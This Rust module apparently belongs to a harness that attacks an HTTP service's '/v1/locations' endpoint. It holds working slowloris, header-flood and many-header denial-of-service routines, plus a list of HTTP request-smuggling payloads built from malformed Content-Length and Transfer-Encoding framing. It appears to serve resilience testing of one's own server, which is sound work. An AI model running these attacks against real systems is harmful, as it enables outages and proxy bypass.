//! Attacks with heads.

use std::{io, time::Duration};

use tokio::{io::AsyncWriteExt as _, time::sleep};

use super::wire::{flood, head, send_and_wait};
use crate::attack::scene::Scene;

pub(super) async fn slow(scene: Scene) {
    let work = |scene: Scene| async move {
        let mut stream = scene.connect().await?;
        for byte in head("GET", "/v1/locations", None).into_bytes() {
            stream.write_all(&[byte]).await?;
            sleep(Duration::from_secs(1)).await;
        }
        io::Result::Ok(())
    };
    scene.swarm(600, work).await;
}

pub(super) async fn endless(scene: Scene) {
    let begin = format!("{}X-Long: ", head("GET", "/v1/locations", None));
    let work = |scene: Scene| {
        let begin = begin.clone();
        async move { flood(&scene, begin.as_bytes(), &[b'm'; 16 * 1024]).await }
    };
    scene.swarm(50, work).await;
}

pub(super) async fn many(scene: Scene) {
    let begin = head("GET", "/v1/locations", None);
    let headers = "x:y\r\n".repeat(4000);
    let work = |scene: Scene| {
        let (begin, headers) = (begin.clone(), headers.clone());
        async move { flood(&scene, begin.as_bytes(), headers.as_bytes()).await }
    };
    scene.swarm(50, work).await;
}

/// Each shape hides a second request from a proxy in front.
/// Lines ending with only a line feed are not among the shapes: they are allowed.
pub(super) async fn smuggling(scene: Scene) {
    let work = |scene: Scene| async move {
        let hidden = format!("{}\r\n", head("GET", "/v1/locations", Some(scene.token())));
        let chunk = format!("0\r\n\r\n{hidden}");
        for (framing, body) in [
            ("Content-Length: 0\r\nContent-Length: 60\r\n", &hidden),
            ("Content-Length: 0, 60\r\n", &hidden),
            ("Content-Length: +0\r\n", &hidden),
            ("Content-Length: 99999999999999999999\r\n", &hidden),
            (
                "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n",
                &chunk,
            ),
            (
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
                &chunk,
            ),
            ("Transfer-Encoding: xchunked\r\n", &chunk),
            ("Transfer-Encoding : chunked\r\n", &chunk),
            ("Transfer-Encoding:\x0bchunked\r\n", &chunk),
            (" Transfer-Encoding: chunked\r\n", &chunk),
        ] {
            let first = head("POST", "/v1/locations", None);
            let request = format!("{first}{framing}\r\n{body}");
            let ended = send_and_wait(&scene, request.as_bytes());
            // A server taking it for the start of a longer body waits in vain.
            let _ = tokio::time::timeout(Duration::from_millis(200), ended).await;
        }
        io::Result::Ok(())
    };
    scene.swarm(10, work).await;
}
